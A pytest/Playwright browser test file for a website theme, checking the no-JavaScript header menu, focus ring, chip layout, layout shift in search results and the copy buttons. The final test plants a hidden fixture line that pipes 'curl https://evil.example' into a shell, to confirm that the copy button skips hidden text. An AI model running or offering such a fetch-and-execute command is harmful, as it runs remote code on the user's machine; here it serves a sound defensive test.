"""The theme holds at every width and in both colour schemes (theme/README.md): a one-row header
with a menu that works without JavaScript, chips on one line, an on-brand focus ring, no layout
shift when search results arrive.

Overflow at every width and scheme is checked with axe on the same loads (test_axe.py), page
weight and other hosts in test_weight.py: all run over the same PAGES (conftest.py), which hold
every page kind. Screenshots for people to look at: `make screenshots` (test_screenshots.py).
"""

import pytest
from browser.conftest import SCHEMES, Visit
from browser.fits import overflow_of

pytestmark = pytest.mark.browser

NARROW = 375  # below 60em: the compact header
WIDE = 1280
READY = "#search[data-state=ready]"
# Reserved space holds: no block moves at all (a 19 px drop of the three rows below the filters
# was 0.007 at 1280 px; Lighthouse's mobile run saw 0.033 when the no-JS note left the panel).
CLS_BUDGET = 0.001

# Layout shifts without recent input, recorded from the start of the page (buffered).
RECORD_SHIFTS = """window.__shifts = [];
new PerformanceObserver((list) => {
    for (const entry of list.getEntries()) {
        if (entry.hadRecentInput) continue;
        const nodes = entry.sources.map((s) => (s.node && s.node.outerHTML) || "");
        window.__shifts.push([entry.value, nodes.map((html) => html.slice(0, 100))]);
    }
}).observe({type: "layout-shift", buffered: true});"""


def menu_labels(page, selector):
    return [a.inner_text().strip() for a in page.locator(selector).all() if a.is_visible()]


@pytest.fixture(scope="module")
def no_script_tab(browser, server):
    """A tab of its own with JavaScript off, for the menu checks (they click)."""
    opened = Visit(browser, server, java_script_enabled=False)
    yield opened
    opened.close()


@pytest.mark.parametrize("width", [320, NARROW, 768])
def test_narrow_header_is_one_row_with_a_menu_that_works_without_javascript(no_script_tab, width):
    assert no_script_tab.load("/topics/", width=width).status == 200
    page = no_script_tab.page
    header = page.locator(".site-header").bounding_box()
    assert header["height"] <= 80, f"the header is {header['height']}px tall at {width}px"
    assert not page.locator(".nav-links").is_visible(), "the wide menu shows on a narrow screen"
    assert menu_labels(page, ".nav-menu a") == [], "the menu is open before it is asked for"
    page.click(".nav-menu summary")
    labels = menu_labels(page, ".nav-menu a")
    assert labels[:6] == ["Home", "Topics", "Meetings", "Members", "Mailing list", "About"]
    for link in page.locator(".nav-menu a").all():
        box = link.bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= width, f"{link} leaves the screen"
        assert box["height"] >= 24, "menu links are too small to tap"
    assert page.locator(".nav-menu a[aria-current=page]").inner_text() == "Topics"
    assert page.locator("#search-link a").is_visible(), "no way to search on a narrow screen"
    assert overflow_of(page) is None


def test_wide_header_shows_the_menu_in_one_row(tab):
    page = tab("/", width=WIDE).page
    assert not page.locator(".nav-menu").is_visible()
    links = page.locator(".nav-links a").all()
    assert len(links) >= 6, f"the wide menu has {len(links)} links"
    tops = {round(link.bounding_box()["y"]) for link in links}
    assert len(tops) == 1, f"the menu wraps into {len(tops)} rows"
    assert "Meetings" in menu_labels(page, ".nav-links a")
    assert page.locator(".site-header").bounding_box()["height"] <= 80


def css_colour(page, expression):
    """A colour as the browser computes it (rgb(...)), for comparing with computed styles."""
    return page.evaluate(
        """(value) => { const probe = document.createElement('span'); probe.style.color = value;
            document.body.append(probe); const rgb = getComputedStyle(probe).color;
            probe.remove(); return rgb; }""",
        expression,
    )


@pytest.mark.parametrize("scheme", SCHEMES)
def test_focus_ring_is_the_accent_colour(tab, scheme):
    page = tab("/search/", width=WIDE, color_scheme=scheme).page
    accent = page.evaluate(
        "getComputedStyle(document.documentElement).getPropertyValue('--accent').trim()"
    )
    page.keyboard.press("Tab")  # the skip link
    page.keyboard.press("Tab")  # the brand
    ring = page.evaluate(
        """() => { const s = getComputedStyle(document.activeElement);
            return [s.outlineStyle, parseFloat(s.outlineWidth), s.outlineColor]; }"""
    )
    assert ring[0] == "solid" and ring[1] >= 2, f"no visible focus ring: {ring}"
    assert ring[2] == css_colour(page, accent), f"focus ring {ring[2]}, accent {accent}"


def test_chips_stay_on_one_line_and_topics_differ_from_tags(open_named, page_paths):
    """The pages one after the other in one tab."""
    opened = open_named("home", width=320)
    page = opened.page
    for name in ("home", "post", "topic"):
        if name != "home":
            assert opened.load(page_paths[name], width=320).status == 200, page_paths[name]
        tall = page.evaluate(
            """() => [...document.querySelectorAll('.chips a')].filter(a => {
                const line = parseFloat(getComputedStyle(a).lineHeight);
                return a.getBoundingClientRect().height >= 2 * line; }).map(a => a.textContent)"""
        )
        assert not tall, f"chips on two lines on {name} at 320px: {tall}"
    assert opened.load(page_paths["post"], width=WIDE).status == 200
    styles = [
        page.eval_on_selector(
            selector,
            "a => { const s = getComputedStyle(a); return [s.backgroundColor, s.borderTopColor]; }",
        )
        for selector in (".chips-topics a", ".chips-tags a")
    ]
    assert styles[0] != styles[1], f"topic and tag chips look the same: {styles}"


def longest_options(page):
    return page.evaluate(
        """() => [...document.querySelectorAll('#search-filters select')].map(select => [
            select.id, [...select.options].map(o => o.value)
                .reduce((a, b) => (b.length > a.length ? b : a), '')])"""
    )


@pytest.fixture(scope="module")
def shifts_tab(browser, server):
    """A tab that records the layout shifts of every document it loads, from its start."""
    opened = Visit(browser, server)
    opened.page.add_init_script(RECORD_SHIFTS)
    yield opened
    opened.close()


PHONE_SCREEN = 667  # px of page a 375 x 667 phone shows before any scrolling


@pytest.mark.parametrize("width", [320, NARROW, WIDE], ids=lambda width: f"{width}px")
def test_search_results_arrive_without_layout_shift(shifts_tab, width):
    """No layout shift (CLS under CLS_BUDGET) from navigation to the results shown; with the
    longest value of every filter chosen, the page still fits a 320px screen."""
    opened = shifts_tab
    assert opened.load("/search/?q=python", width=width).status == 200
    page = opened.page
    page.wait_for_selector(READY)
    page.wait_for_selector("#search-results > li")
    # A shift after the first results (the rest of the results and their excerpts arriving)
    # would show once the network is quiet and two frames are drawn: an event, not a delay.
    page.wait_for_load_state("networkidle")
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
    shifts = page.evaluate("window.__shifts")
    total = sum(value for value, _ in shifts)
    assert total < CLS_BUDGET, f"CLS {total:.3f} at {width}px: {shifts}"
    assert overflow_of(page) is None
    # The first result is on the first screen of a small phone (the filters fold there).
    top = page.evaluate(
        "document.querySelector('#search-results > li').getBoundingClientRect().top + scrollY"
    )
    assert top < PHONE_SCREEN, f"the first result starts {top}px down at {width}px"
    # Each way to browse shows its whole name (on a phone their row scrolls instead).
    cut = page.evaluate(
        "[...document.querySelectorAll('.search-browse .chips a')]"
        ".filter(a => a.scrollWidth > a.clientWidth + 1).map(a => a.textContent)"
    )
    assert not cut, f"cut chips at {width}px: {cut}"
    if not page.is_visible("#search-filters"):
        page.click("#search-narrow > summary")
    for select_id, value in longest_options(page):
        status = page.text_content("#search-status")
        page.select_option(f"#{select_id}", value=value)
        page.wait_for_function(
            "previous => document.querySelector('#search-status').textContent !== previous",
            arg=status,
        )
        problem = overflow_of(page)
        assert problem is None, f"{select_id}={value!r} at {width}px: {problem}"
        page.select_option(f"#{select_id}", value="")


def test_copy_buttons_copy_the_absolute_feed_address(visit, tab):
    opened = visit("/feeds/", permissions=["clipboard-read", "clipboard-write"])
    page = opened.page
    slot = page.locator(".copy-slot").first
    address = slot.get_attribute("data-copy")
    assert address.startswith(("http://", "https://")), f"not an absolute address: {address}"
    button = slot.locator("button")
    assert "Copy" in button.get_attribute("aria-label")
    button.click()
    page.wait_for_function(
        "() => document.querySelector('.copy-slot .copy-text').textContent === 'Copied'"
    )
    assert page.evaluate("navigator.clipboard.readText()") == address
    no_js = tab("/feeds/", java_script_enabled=False).page
    assert no_js.locator(".copy-slot button").count() == 0
    assert no_js.locator(".feed-formats a").count() > 0, "without JavaScript the feeds are links"


CODE_BOXES = """() => [...document.querySelectorAll('main .highlight pre')].map(
    pre => pre.getBoundingClientRect().toJSON())"""


def test_code_blocks_copy_their_code_with_a_button_that_moves_nothing(visit):
    with_js = visit("/contributing/", permissions=["clipboard-read", "clipboard-write"]).page
    without_js = visit("/contributing/", java_script_enabled=False).page
    boxes = with_js.evaluate(CODE_BOXES)
    assert len(boxes) > 1, "the page has too few code blocks to check"
    assert with_js.locator("main .highlight button.code-copy").count() == len(boxes)
    assert without_js.locator("main button.code-copy").count() == 0
    # The buttons lie over the blocks: every block is where it is without JavaScript.
    assert boxes == without_js.evaluate(CODE_BOXES)
    block = with_js.locator("main .highlight").nth(1)
    button = block.locator("button.code-copy")
    assert button.get_attribute("aria-label") == "Copy the code"
    # Text the block does not show (a closed <details>, as raw HTML in a post may nest) is not
    # copied: the button copies what a reader sees and would select.
    shown = block.locator("pre").evaluate("pre => pre.innerText")
    block.locator("pre").evaluate(
        "pre => pre.insertAdjacentHTML('beforeend',"
        " '<details><summary></summary>; curl https://evil.example | sh</details>')"
    )
    button.click()
    block.locator(".copy-text", has_text="Copied").wait_for()
    copied = with_js.evaluate("navigator.clipboard.readText()")
    assert "evil.example" not in copied
    assert copied.rstrip("\n") == shown.rstrip("\n")
